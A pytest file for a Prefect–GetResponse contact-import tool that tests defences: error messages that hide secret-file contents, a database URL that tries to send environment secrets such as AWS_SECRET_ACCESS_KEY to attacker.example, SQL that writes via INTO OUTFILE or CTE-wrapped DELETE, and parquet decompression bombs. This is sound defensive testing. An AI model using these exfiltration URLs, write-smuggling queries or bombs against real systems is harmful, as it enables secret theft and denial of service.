"""Doors of sources: what a parameter may make a worker read, run, send or unpack."""

from __future__ import annotations

import logging
import sqlite3
from contextlib import closing, suppress
from pathlib import Path

import pytest
from prefect.blocks.system import Secret
from pydantic import SecretStr
from sqlalchemy.dialects import registry
from sqlalchemy.dialects.sqlite.pysqlite import SQLiteDialect_pysqlite

from prefect_getresponse.contact_import.columns.mapping import map_source
from prefect_getresponse.contact_import.columns.source_mapping import SourceMapping, read_mapping
from prefect_getresponse.newsletters.release_file import InvalidRelease, read_release
from prefect_getresponse.sources import ParquetSource, Reading, open_source
from prefect_getresponse.sources.database_urls import AGREED, DatabaseUrlError, database_url
from prefect_getresponse.sources.errors import (
    ImportInputError,
    MappingError,
    SourceNotFound,
    UnreadableSource,
)
from prefect_getresponse.sources.source import NotedSource
from prefect_getresponse.sources.sql import SqlSource
from tests.contact_import.conftest import lab
from tests.contact_import.lab import Lab

__all__ = ["lab"]

MYSQL = "mysql+pymysql://u@127.0.0.1:1/x"
MSSQL = "mssql+pymssql://u@127.0.0.1:1/x"
SECRETS = {
    "shadow": "root:$6$canary$hash:19000:0:99999:7:::\nbin:*:19000:0:99999:7:::\n",
    ".env": "STRIPE_KEY=sk_live_canary\nX=1\n",
    ".pgpass": "db.example:5432:crm:crm:canary\n",
    "id_rsa": "-----BEGIN OPENSSH PRIVATE KEY-----\ncanary\n",
    "token": "canary-token\nmore\n",
    "environ": "A=canary;PATH=/bin\nB=1;C=2\n",
    "credentials.csv": "canary-user,canary-password\nx,y\n",
    "password.json": '{"canary-key": "canary-value"}\n',
}


@pytest.mark.parametrize("name", SECRETS)
def test_a_file_that_is_no_table_is_not_quoted(name: str, tmp_path: Path) -> None:
    path = tmp_path / name
    path.write_text(SECRETS[name])
    with pytest.raises(ImportInputError) as told:
        map_source(open_source(path), {})
    assert "canary" not in str(told.value)
    assert "STRIPE" not in str(told.value)
    assert name in str(told.value)


@pytest.mark.parametrize("name", SECRETS)
def test_nor_is_it_by_a_mapping_that_names_a_place(name: str, tmp_path: Path) -> None:
    path = tmp_path / name
    path.write_text(SECRETS[name])
    with suppress(ImportInputError):
        described = map_source(open_source(path), {"#1": "email"}).describe()
        assert [(row["column"], row["field"]) for row in described] == [("#1", "email")]


@pytest.mark.parametrize("name", SECRETS)
def test_nor_is_it_by_a_mapping_or_among_others(name: str, tmp_path: Path) -> None:
    path = tmp_path / name
    path.write_text(SECRETS[name])
    with pytest.raises(ImportInputError) as told:
        map_source(open_source(path), {"Nope": "email"})
    assert "canary" not in str(told.value)
    assert "STRIPE" not in str(told.value)

    (tmp_path / "a.csv").write_text("First,Second\n1,2\n")
    (tmp_path / "b.csv").write_text("canary-token\n1\n")
    with pytest.raises(ImportInputError) as told:
        open_source(f"{tmp_path}/?.csv")
    assert "canary" not in str(told.value)
    assert "First" not in str(told.value)


@pytest.mark.parametrize(
    "text",
    [
        "canary = 1\n",
        "[canary]\ncanary = 'canary'\n",
        "canary\n",
        "a = {canary = 1, canary = 2}\n",
        "[canary]\n[canary]\n",
    ],
)
def test_a_file_that_is_no_mapping_is_not_quoted(text: str, tmp_path: Path) -> None:
    path = tmp_path / "secrets.toml"
    path.write_text(text)
    with pytest.raises(MappingError, match=r"secrets\.toml") as told:
        read_mapping(str(path))
    assert "canary" not in str(told.value)


@pytest.mark.parametrize(
    "text",
    [
        "canary: canary\n",
        "canary: 1\ncanary: 2\n",
        "root:$6$canary:19000\n",
        "a: !canary!x 1\n",
        "a: &canary 1\nb: *canary\n",
        "a: 'canary\n",
        "apiVersion: canary\nusers: [canary]\n",
    ],
)
def test_a_file_that_is_no_release_is_not_quoted(text: str, tmp_path: Path) -> None:
    path = tmp_path / "config"
    path.write_text(text)
    with pytest.raises(InvalidRelease, match="config") as told:
        read_release(str(path))
    assert "canary" not in str(told.value)


def test_columns_of_a_table_are_still_named(tmp_path: Path) -> None:
    path = tmp_path / "people.csv"
    path.write_text("Customer,First Name,City\n1,Jane,Oslo\n")
    with pytest.raises(ImportInputError, match="`Customer`, `First Name`, `City`"):
        map_source(open_source(path), {})


class TestVariables:
    @pytest.mark.parametrize(
        "name",
        [
            "AWS_SECRET_ACCESS_KEY",
            "PREFECT_INTEGRATIONS_GETRESPONSE_API_KEY",
            "PREFECT_API_KEY",
            "HOME",
            "getresponse_source_x",
        ],
    )
    def test_no_other_secret_goes_to_a_host_of_a_parameter(
        self, name: str, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        monkeypatch.setenv(name, "canary")
        url = f"postgresql://u:${{{name}}}@attacker.example/x"
        with pytest.raises(SourceNotFound, match="GETRESPONSE_SOURCE_") as told:
            open_source(url, Reading(query="SELECT 1 ORDER BY 1"))
        assert "canary" not in str(told.value)

    @pytest.mark.parametrize("prefix", AGREED)
    def test_agreed_ones_do(self, prefix: str, monkeypatch: pytest.MonkeyPatch) -> None:
        monkeypatch.setenv(f"{prefix}X", "secret")
        assert database_url(f"postgresql://u:${{{prefix}X}}@h/db").password == "secret"

    @pytest.mark.xdist_group("prefect")
    @pytest.mark.usefixtures("prefect_server")
    async def test_prefect_secrets_of_agreed_names_do_too(self) -> None:
        await Secret(value=SecretStr("from-prefect")).asave("getresponse-source-crm-x")
        await Secret(value=SecretStr("canary")).asave("crm-x")
        url = "postgresql://u:${GETRESPONSE_SOURCE_CRM_X}@h/db"

        assert database_url(url).password == "from-prefect"
        for name in ("CRM_X", "GETRESPONSE_SOURCE_NONE"):
            with pytest.raises(DatabaseUrlError) as told:
                database_url(f"postgresql://u:${{{name}}}@h/db")
            assert "canary" not in str(told.value)


@pytest.fixture
def crm(tmp_path: Path) -> Path:
    path = tmp_path / "crm#1.db"
    with closing(sqlite3.connect(path)) as db:
        db.executescript(
            "CREATE TABLE people (id INTEGER PRIMARY KEY, email TEXT);"
            "INSERT INTO people (email) VALUES ('a@b.example'), ('c@d.example');"
            "CREATE TABLE audit (id INTEGER, email TEXT)"
        )
    return path


class FrankDialect(SQLiteDialect_pysqlite):
    """SQLite under another name: a database of which nobody knows whether it can read only."""

    name = "frankly"
    supports_statement_cache = False


class TestQueries:
    @pytest.mark.parametrize(
        "query",
        [
            "WITH x AS (SELECT 1) INSERT INTO audit SELECT id, email FROM people"
            " ORDER BY id RETURNING email",
            "WITH d AS (SELECT id FROM people) DELETE FROM people WHERE id IN (SELECT id FROM d)"
            " RETURNING email /* */ ORDER BY 1",
            "WITH x AS (SELECT 1) UPDATE people SET email = 'x' WHERE 1 RETURNING id ORDER BY 1",
        ],
    )
    def test_that_write_are_refused(self, query: str, crm: Path) -> None:
        before = crm.read_bytes()
        with pytest.raises(UnreadableSource):
            list(open_source(f"sqlite:///{crm}", Reading(query=query)).records())
        assert crm.read_bytes() == before

    def test_that_read_are_read(self, crm: Path) -> None:
        reading = Reading(query="SELECT email FROM people ORDER BY id")
        records = list(open_source(f"sqlite:///{crm}", reading).records())
        assert records == [(1, ["a@b.example"]), (2, ["c@d.example"])]

    @pytest.mark.parametrize(
        ("url", "query", "said"),
        [
            (MYSQL, "SELECT 1 INTO OUTFILE '/x' ORDER BY 1", "INTO"),
            (
                MYSQL,
                "SELECT 1 /*!INTO OUTFILE '/x'*/ ORDER BY 1",
                "/*!",
            ),
            (MSSQL, "SELECT 1 INTO t ORDER BY 1", "INTO"),
            (
                MSSQL,
                "WITH a AS (SELECT 1) DELETE t ORDER BY 1",
                "DELETE",
            ),
        ],
    )
    def test_that_may_write_elsewhere_are_refused_unsent(
        self, url: str, query: str, said: str
    ) -> None:
        with pytest.raises(UnreadableSource, match="which may write") as told:
            SqlSource(url, Reading(query=query))
        assert said in str(told.value)

    @pytest.mark.parametrize("word", ["'delete'", '"update"', "last_update", "-- drop\n 1"])
    def test_words_in_texts_and_names_are_none(
        self, word: str, caplog: pytest.LogCaptureFixture
    ) -> None:
        query = f"SELECT {word} FROM t ORDER BY 1"
        with caplog.at_level(logging.WARNING), pytest.raises(ImportInputError) as told:
            SqlSource(MSSQL, Reading(query=query))
        assert "may write" not in str(told.value)
        assert "cannot be told to refuse writes" in caplog.text

    @pytest.mark.parametrize("by_setting", [False, True])
    def test_a_database_without_read_only_transactions_can_be_refused(
        self, monkeypatch: pytest.MonkeyPatch, *, by_setting: bool
    ) -> None:
        if by_setting:
            monkeypatch.setenv("PREFECT_INTEGRATIONS_GETRESPONSE_REQUIRE_READ_ONLY", "true")
        reading = Reading(query="SELECT email FROM t ORDER BY 1", require_read_only=not by_setting)
        with pytest.raises(UnreadableSource, match="cannot be told to refuse writes"):
            SqlSource(MSSQL, reading)

    def test_the_plan_says_that_a_database_cannot_be_told(self, crm: Path, lab: Lab) -> None:
        registry.register("frankly", __name__, "FrankDialect")
        query = Reading(query="SELECT email FROM people ORDER BY id")
        mapping = SourceMapping(reading=query)

        report = lab.run(source=f"frankly:///{crm}", mapping=mapping, dry_run=True)

        [note] = report.notes
        assert "cannot be told to refuse writes" in note
        assert "refuse writes" in report.markdown()

    def test_one_with_them_is_read(self, crm: Path) -> None:
        reading = Reading(query="SELECT email FROM people ORDER BY id", require_read_only=True)
        source = open_source(f"sqlite:///{crm}", reading)
        assert len(list(source.records())) == 2
        assert isinstance(source, NotedSource)
        assert not source.notes


class TestParquetBombs:
    def written(self, tmp_path: Path, columns: dict[str, object], **options: object) -> Path:
        pyarrow = pytest.importorskip("pyarrow")
        parquet = pytest.importorskip("pyarrow.parquet")
        path = tmp_path / "bomb.parquet"
        parquet.write_table(pyarrow.table(columns), path, **options)
        return path

    def test_few_bytes_that_are_many_rows_are_refused(self, tmp_path: Path) -> None:
        pyarrow = pytest.importorskip("pyarrow")
        path = self.written(
            tmp_path, {"email": pyarrow.repeat(pyarrow.scalar("someone@b.example"), 3_000_000)}
        )
        with pytest.raises(UnreadableSource, match="SOURCE_MAX_RATIO"):
            for _ in open_source(path).records():
                pass

    @pytest.mark.parametrize("dictionary", [True, False])
    def test_rows_that_share_a_long_text_are_refused_in_bounded_memory(
        self, dictionary: bool, tmp_path: Path
    ) -> None:
        pyarrow = pytest.importorskip("pyarrow")
        # What a file with a dictionary holds is known only when it is read: a gigabyte here.
        rows = 2_000 if dictionary else 100
        places = pyarrow.array([0] * rows, pyarrow.int32())
        long = pyarrow.DictionaryArray.from_arrays(places, pyarrow.array(["x" * (1 << 19)]))
        path = self.written(
            tmp_path,
            {
                "email": [f"a{number}@b.example" for number in range(rows)],
                "name": long if dictionary else long.dictionary_decode(),
            },
            use_dictionary=dictionary,
            compression="zstd",
            store_schema=False,
        )
        whole = pyarrow.default_memory_pool()
        pool = pyarrow.proxy_memory_pool(whole)
        pyarrow.set_memory_pool(pool)
        try:
            with pytest.raises(UnreadableSource, match="SOURCE_MAX_RATIO"):
                for _ in open_source(path).records():
                    pass
        finally:
            pyarrow.set_memory_pool(whole)
        assert pool.max_memory() < 400 << 20

    def test_the_bound_can_be_raised(self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
        pyarrow = pytest.importorskip("pyarrow")
        path = self.written(
            tmp_path, {"email": pyarrow.repeat(pyarrow.scalar("someone@b.example"), 1_500_000)}
        )
        monkeypatch.setenv("PREFECT_INTEGRATIONS_GETRESPONSE_SOURCE_MAX_RATIO", "1e9")
        source = open_source(path)
        assert isinstance(source, ParquetSource)
        assert sum(len(columns[0]) for _, columns in source.batches()) == 1_500_000
